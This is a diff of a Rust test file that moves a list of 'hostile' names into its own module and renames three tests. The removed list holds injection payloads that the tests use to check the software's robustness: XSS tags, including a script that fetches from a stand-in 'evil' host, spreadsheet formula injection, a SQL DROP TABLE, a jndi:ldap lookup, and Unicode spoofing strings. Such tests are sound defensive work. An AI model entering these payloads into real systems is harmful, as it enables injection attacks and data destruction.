@@ -5,28 +5,13 @@ use domain::form::check::Refusal;
 use domain::record::RecordKind;
 use domain::value::{Value, Values};
 
+use crate::hostile_text::HOSTILE;
 use crate::world::World;
 use crate::world::laptop::Laptop;
 use crate::world::words::{answer, key};
 
-/// Names that break programs which take text for anything else.
-const HOSTILE: [&str; 12] = [
-    "<img src=x onerror=alert(1)>",
-    "<script>fetch('//evil')</script>",
-    "\u{202e}zepóL anA\u{202c}",
-    "Ana\u{200b}\u{feff}\u{2066}López",
-    "😀👩‍👩‍👧‍👦🏴‍☠️",
-    "=cmd|'/c calc'!A1",
-    "+1+1; @SUM(A1)",
-    "'; DROP TABLE record; --",
-    "\" OR \"*\" NEAR(a b) *",
-    "%s%n ${jndi:ldap://x} {{7*7}}",
-    "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
-    "ﷺﷺﷺ NUL and\ttab\r\nline",
-];
-
 #[test]
-fn hostile_names_come_back_as_they_were_typed() {
+fn t19_hostile_names_come_back_as_they_were_typed() {
     let world = World::new();
     let mut ana = world.laptop("Ana");
     let records: Vec<_> = HOSTILE.iter().map(|name| ana.person(name, name, "")).collect();
@@ -120,7 +105,7 @@ fn malformed_requests_are_refused_and_change_nothing() {
 }
 
 #[test]
-fn every_call_refuses_a_field_it_does_not_know() {
+fn t19_every_call_refuses_a_field_it_does_not_know() {
     let world = World::new();
     let ana = world.laptop("Ana");
     for call in api::calls::all() {
@@ -132,7 +117,7 @@ fn every_call_refuses_a_field_it_does_not_know() {
 }
 
 #[test]
-fn a_call_that_is_not_there_is_named_back_shortly() {
+fn t19_a_call_that_is_not_there_is_named_back_shortly() {
     let world = World::new();
     let ana = world.laptop("Ana");
     for (name, said) in [("record.destroy", "record.destroy"), ("", ""), ("Record.Show", "Record.Show")] {
